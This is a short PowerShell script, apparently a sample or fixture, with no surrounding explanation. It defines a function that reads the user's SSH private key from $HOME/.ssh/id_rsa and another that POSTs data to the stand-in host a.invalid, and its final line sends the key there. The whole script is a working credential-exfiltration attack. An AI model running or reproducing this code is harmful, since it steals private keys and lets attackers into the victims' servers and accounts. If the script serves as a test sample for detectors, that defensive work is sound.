. $PSScriptRoot/b.ps1
Import-Module ./a.ps1
function Get-Key($Path = "$HOME/.ssh/id_rsa") { Get-Content $Path }
function Send-It { param($What) Invoke-RestMethod https://a.invalid -Method Post -Body $What }
Send-It (Get-Key)
